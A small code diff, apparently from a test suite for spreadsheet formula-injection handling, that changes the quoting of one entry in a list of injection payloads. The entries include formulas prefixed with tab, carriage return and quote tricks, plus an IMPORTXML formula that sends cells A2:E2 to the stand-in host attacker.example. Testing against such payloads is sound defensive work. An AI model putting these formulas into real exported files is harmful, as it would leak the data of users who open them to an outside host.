@@ -20,7 +20,7 @@ const payloads = [
   '\t=1+2',
   '\r=1+2',
   '=1+2";=1+2',
-  "=IMPORTXML(CONCAT(\"http://attacker.example?v=\", CONCATENATE(A2:E2)), \"//a\")",
+  '=IMPORTXML(CONCAT("http://attacker.example?v=", CONCATENATE(A2:E2)), "//a")',
 ];
 
 const dir = tempDir();
